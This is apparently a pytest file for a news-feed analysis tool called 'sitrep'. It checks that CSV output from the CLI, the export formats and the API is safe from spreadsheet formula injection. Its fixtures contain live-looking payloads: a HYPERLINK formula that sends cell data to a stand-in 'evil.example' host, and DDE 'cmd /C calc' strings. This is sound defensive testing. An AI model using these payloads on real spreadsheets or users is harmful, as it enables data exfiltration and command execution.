"""CSV formula injection: titles and outlets from untrusted feeds never reach a spreadsheet
as formulas, whichever CSV sitrep writes (the API's lists, `sitrep claims|articles|events
--format csv`, `sitrep export --format csv|ucdp|acled`), and numbers are left as they are.
"""

from __future__ import annotations

import csv
import io
import warnings
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from conftest import fill_serve_db
from sitrep.cli import app
from sitrep.export.csvtext import safe_cell
from sitrep.model import Article

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULA_OUTLET = "@SUM(1+1)*cmd|' /C calc'!A0"
RISKY = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A3)", "'@SUM(A1:A3)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("-12", "-12"),  # a negative number stays a number
        ("+3.5", "+3.5"),
        ("-1,200", "-1,200"),
        ("-", "'-"),  # a lone sign is no number
        ("Kharkiv", "Kharkiv"),
        ("", ""),
        (-7, -7),
        (12.5, 12.5),
        (None, None),
    ],
)
def test_safe_cell(cell: Any, expected: Any) -> None:
    assert safe_cell(cell) == expected


def _articles() -> list[Article]:
    body = ("A Russian drone strike on a bus station in Kherson killed four people and wounded "
            "nine on Saturday, the regional governor said.")
    return [
        Article(id="=cmd|' /C calc'!A0", text=f"Strike on Kherson bus station\n\n{body}",
                published=date(2024, 6, 1), title=FORMULA_TITLE, outlet=FORMULA_OUTLET,
                url="https://wire.example/kherson"),
    ]


@pytest.fixture
def filled_db(tmp_path: Path, serve_extractor: Any) -> str:
    url = f"sqlite:///{tmp_path / 'csv.db'}"
    fill_serve_db(url, _articles(), serve_extractor)
    return url


def _assert_no_formula(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows, text
    cells = [v for r in rows for v in r.values() if v]
    assert any("HYPERLINK" in c for c in cells) or any("SUM(" in c for c in cells), text[:400]
    for cell in cells:
        is_number = cell.lstrip("+-").replace(",", "").replace(".", "", 1).isdigit()
        assert is_number or not cell.startswith(RISKY), cell
    return rows


def test_cli_csv_is_formula_safe(filled_db: str) -> None:
    runner = CliRunner()
    for command in ("claims", "articles", "events"):
        result = runner.invoke(app, [command, "--db", filled_db, "--format", "csv"])
        assert result.exit_code == 0, result.output
        rows = _assert_no_formula(result.stdout)
        if command == "claims":
            assert {r["quantity"] for r in rows} >= {"four", "nine"}
            assert {r["best"] for r in rows} >= {"4.0", "9.0"}


def test_export_csv_is_formula_safe(filled_db: str, tmp_path: Path) -> None:
    runner = CliRunner()
    for fmt in ("csv", "ucdp", "acled"):
        out = tmp_path / f"out-{fmt}.csv"
        result = runner.invoke(app, ["export", "--db", filled_db, "--format", fmt,
                                     "--out", str(out)])
        assert result.exit_code == 0, result.output
        rows = _assert_no_formula(out.read_text(encoding="utf-8"))
        if fmt == "ucdp":
            assert rows[0]["source_headline"] == "'" + FORMULA_TITLE
            assert rows[0]["best"] == "4"


def test_api_csv_is_formula_safe(filled_db: str) -> None:
    with warnings.catch_warnings():  # starlette: "install httpx2 instead"; httpx works
        warnings.simplefilter("ignore")
        from fastapi.testclient import TestClient
    from sitrep.serve import create_app

    with TestClient(create_app(filled_db)) as client:
        for what in ("claims", "articles", "events"):
            answer = client.get(f"/api/{what}", params={"format": "csv"})
            assert answer.status_code == 200, answer.text
            rows = _assert_no_formula(answer.text)
            if what == "articles":
                assert rows[0]["outlet"] == "'" + FORMULA_OUTLET


def test_cli_csv_evidence_is_json(filled_db: str) -> None:
    """The evidence column is JSON a reader can parse, not a Python repr."""
    import json

    result = CliRunner().invoke(app, ["claims", "--db", filled_db, "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    spans = json.loads(rows[0]["evidence"])
    assert spans and {"start", "end"} <= set(spans[0])
